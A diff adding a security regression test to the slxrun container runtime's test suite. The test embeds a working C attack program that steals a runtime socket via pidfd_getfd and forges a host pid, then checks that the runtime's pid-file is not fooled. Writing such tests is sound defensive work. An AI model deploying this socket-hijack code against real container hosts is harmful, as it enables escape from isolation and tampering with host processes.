@@ -363,6 +363,66 @@ Test(security_defaults, exec_is_never_in_the_containers_pid_namespace_with_the_h
 	bundle_remove(&b);
 }
 
+/* The same container goes after the socket `exec`'s process shares with
+ * slxrun from its birth: it takes it (pidfd_getfd; CAP_SYS_PTRACE passes
+ * over the process's dumpable 0) and writes first, naming a host pid as
+ * the process exec made.  slxrun wrote that pid as the --pid-file, and
+ * would have signalled and waited for it (an attacker's review of the
+ * joiner's first form).  Only a pidfd of its own child counts now. */
+static const char forge_prog[] =
+    "#define _GNU_SOURCE\n#include <dirent.h>\n#include <stdlib.h>\n#include <string.h>\n"
+    "#include <sys/socket.h>\n#include <sys/syscall.h>\n#include <unistd.h>\n"
+    "int main(int argc, char **argv) {\n"
+    "  struct { unsigned type; int errnum, stage; unsigned len; } h = {7, 0, 0, 0};\n"
+    "  h.len = strlen(argv[1]);\n"
+    "  for (;;) { DIR *d = opendir(\"/proc\"); struct dirent *e;\n"
+    "    while ((e = readdir(d))) { int pid = atoi(e->d_name), pfd;\n"
+    "      if (pid <= 1 || (pfd = syscall(SYS_pidfd_open, pid, 0)) < 0) continue;\n"
+    "      for (int fd = 3; fd < 16; fd++) { int s = syscall(SYS_pidfd_getfd, pfd, fd, 0), t = 0;\n"
+    "        socklen_t l = sizeof(t);\n"
+    "        if (s >= 0 && !getsockopt(s, SOL_SOCKET, SO_TYPE, &t, &l) && t == SOCK_SEQPACKET) {\n"
+    "          struct iovec v[2] = {{&h, sizeof(h)}, {argv[1], h.len}};\n"
+    "          struct msghdr m = {.msg_iov = v, .msg_iovlen = 2};\n"
+    "          sendmsg(s, &m, MSG_NOSIGNAL); return 0; }\n"
+    "        if (s >= 0) close(s); }\n"
+    "      close(pfd); }\n"
+    "    closedir(d); } }\n";
+
+Test(security_defaults, exec_takes_its_process_from_its_joiner_not_from_the_container)
+{
+	struct bundle b;
+	struct cmd_result r;
+	char path[600];
+	FILE *f;
+
+	bundle_make(&b, "[\"/bin/true\"]", NULL, NULL, NULL);
+	bundle_own_rootfs(&b);
+	snprintf(path, sizeof(path), "%s/forge.c", b.dir);
+	cr_assert((f = fopen(path, "w")));
+	fputs(forge_prog, f);
+	fclose(f);
+	cmd_run(&r, NULL, 90,
+		"set -e; cd %1$s; cc -static -O1 -o rootfs/forge forge.c; "
+		"sleep 1000 & v=$!; trap 'kill $v' EXIT; "
+		"sed -i -e 's/\"CAP_KILL\"/\"CAP_KILL\",\"CAP_SYS_PTRACE\"/g' "
+		"-e \"s|\\[\\\"/bin/true\\\"\\]|[\\\"/bin/sh\\\",\\\"-c\\\",\\\"/forge $v \\& "
+		"exec sleep 1000\\\"]|\" config.json; "
+		"%2$s --root %3$s run -d -b %1$s fg </dev/null >/dev/null 2>&1; sleep 0.3; "
+		"strace -f -qq -o /dev/null -e trace=sendmsg "
+		"-e inject=sendmsg:delay_enter=300000:when=1 %2$s --root %3$s exec -d "
+		"--pid-file %1$s/pid fg /bin/sleep 5 </dev/null >/dev/null 2>&1 || true; "
+		"p=$(cat pid 2>/dev/null || true); echo \"victim $v pid-file $p\"; "
+		"[ \"$p\" != \"$v\" ] && kill -0 $v && grep -m1 Name: /proc/$p/status",
+		b.dir, slxrun_bin(), b.root);
+	cr_expect_eq(r.status, 0, "%s %s", r.out, r.err);
+	/* (a zombie under strace, which traces it past slxrun's exit) */
+	cr_expect(strstr(r.out, "\nName:\tsleep\n"), "the pid-file names the exec's process: %s",
+		  r.out);
+	cmd_result_free(&r);
+	bundle_force_delete(&b, "fg");
+	bundle_remove(&b);
+}
+
 /* The same attack from inside, as CVE-2019-5736 was found: the container's
  * pid 1 watches for a process running /proc/self/exe (here brought in by
  * `exec`, whose args name it), holds its /proc/<pid>/exe open, waits for it
